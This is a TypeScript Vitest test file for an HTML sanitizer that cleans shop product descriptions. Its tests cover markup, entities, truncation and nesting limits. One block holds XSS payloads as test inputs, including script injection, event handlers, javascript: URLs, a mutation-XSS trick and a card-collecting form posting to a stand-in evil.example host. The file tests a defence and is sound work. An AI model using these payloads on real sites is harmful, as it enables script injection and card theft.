import { describe, expect, it } from 'vitest'
import { sanitizeDescription } from './sanitize-html.ts'

describe('sanitizeDescription', () => {
  it.each([
    ['', ''],
    ['   ', ''],
    ['A breezy midi.', 'A breezy midi.'],
    ['one\n\ntwo', '<p>one</p><p>two</p>'],
    ['one\r\n\r\n\r\n two\r\nlines', '<p>one</p><p>two<br>lines</p>'],
    ['wide   gaps\tclose', 'wide gaps close'],
    [
      'A midi in <b>washed linen</b>.<ul><li>Pockets</li></ul>',
      'A midi in <b>washed linen</b>.<ul><li>Pockets</li></ul>',
    ],
    ['one<br/>two<BR>three', 'one<br>two<br>three'],
    ['<h1>Care</h1>', '<h3>Care</h3>'],
    ['<div>one</div><div>two</div>', '<p>one</p><p>two</p>'],
    ['<div><p>one</p></div>', '<p>one</p>'],
    ['<p>one<ul><li>two</li></ul></p>', '<p>one</p><ul><li>two</li></ul>'],
    ['<p></p><p>&nbsp;</p><p>one</p><ul><li></li></ul>', '<p>one</p>'],
    ['<a href="https://shop.example">Shop now</a>', 'Shop now'],
    ['<table><tr><td>Width</td></tr><tr><td>Depth</td></tr></table>', '<p>Width</p><p>Depth</p>'],
  ])('PD4 keeps descriptive markup: %j', (html, safe) => {
    expect(sanitizeDescription(html)).toBe(safe)
  })

  it.each([
    ['silk & wool', 'silk &amp; wool'],
    ['silk &amp; wool', 'silk &amp; wool'],
    ['caf&eacute; &#8211; &#x201C;cosy&#x201D;', 'café – “cosy”'],
    ['size < 10 and > 4', 'size &lt; 10 and &gt; 4'],
    ['a > b', 'a &gt; b'],
    // Text that mentions a tag must remain text.
    ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['&amp;lt;b&amp;gt;', '&amp;lt;b&amp;gt;'],
    ['one &amp; two\n\nthree', '<p>one &amp; two</p><p>three</p>'],
    ['a&nbsp;b', 'a b'],
  ])('PD4 writes entities correctly: %j', (html, safe) => {
    expect(sanitizeDescription(html)).toBe(safe)
  })

  it.each([
    ['<script>alert(1)</script>Soft', 'Soft'],
    ['<ScRiPt src=//evil.example></sCrIpT>Soft', 'Soft'],
    ['<img src=x onerror=alert(1)>Soft', 'Soft'],
    ['<b onmouseover="alert(1)" style="position:fixed" class="x" id="y">Soft</b>', '<b>Soft</b>'],
    ['<p style="background:url(javascript:alert(1))">Soft</p>', '<p>Soft</p>'],
    ['<a href="javascript:alert(1)">Soft</a>', 'Soft'],
    ['<svg><g onload=alert(1)></g><text>x</text></svg>Soft', 'Soft'],
    ['<math><mtext></p><img src=x onerror=alert(1)></math>Soft', 'Soft'],
    ['<style>body{display:none}</style>Soft', 'Soft'],
    ['<iframe srcdoc="<script>alert(1)</script>">x</iframe>Soft', 'Soft'],
    ['<form action=//evil.example><input name=card><button>Pay</button></form>Soft', 'Soft'],
    ['<!-- <b>hidden</b> --><!--><img src=x onerror=alert(1)>-->Soft', '--&gt;Soft'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['</p></div></body></html>Soft', 'Soft'],
    ['<b>Soft', '<b>Soft</b>'],
    ['Soft\u0000 \u202Eliks\u202C', 'Soft liks'],
    ['&#0;&#x202E;Soft', '\ufffdSoft'],
    ['\ud800Soft &amp; warm', '\ufffdSoft &amp; warm'],
  ])('PD4 removes every trace of an attack: %j', (html, safe) => {
    expect(sanitizeDescription(html)).toBe(safe)
  })

  it('PD4 never writes an attribute', () => {
    const hostile = '<p a=1 b="<i c=d>" e=\'f\'>x</p><li/onclick=x>y<br class=z>'
    expect(sanitizeDescription(hostile)).not.toMatch(/<[^>]*[\s=][^>]*>/)
  })

  it('truncates long text at the end of a word and closes open elements', () => {
    const cut = sanitizeDescription(`<ul><li><b>${'linen &amp; silk '.repeat(2000)}</b></li></ul>`)
    expect(cut.length).toBeLessThan(8_100)
    expect(cut).toMatch(/(linen|&amp;|silk)…<\/b><\/li><\/ul>$/)
    expect(sanitizeDescription('linen '.repeat(5000))).toMatch(/linen…$/)
    expect(sanitizeDescription('&'.repeat(5000))).toMatch(/^(&amp;)+…$/)
  })

  it.each([7_999, 8_000, 8_001])('keeps 8,000 characters of text at most: %i', length => {
    const word = 'x'.repeat(length)
    for (const html of [word, `<b>${word}</b>`])
      expect(sanitizeDescription(html).includes('…')).toBe(length > 8_000)
  })

  it.each([59_999, 60_000, 60_001])('reads 60,000 characters at most: %i', length => {
    const html = `${'<b>'.padEnd(length - 'Soft'.length)}Soft`
    expect(sanitizeDescription(html).includes('Soft')).toBe(length <= 60_000)
  })

  it('limits nesting', () => {
    const deep = sanitizeDescription(`${'<b>'.repeat(10_000)}Soft${'</b>'.repeat(10_000)}`)
    expect(deep.match(/<b>/g)?.length ?? 0).toBeLessThanOrEqual(12)
    expect(deep).toContain('Soft')
  })

  it('is idempotent', () => {
    const once = sanitizeDescription(
      '<div>A <b>midi</b> & more<p>one<ul><li>two</ul></div>size < 10',
    )
    expect(sanitizeDescription(once)).toBe(once)
  })
})
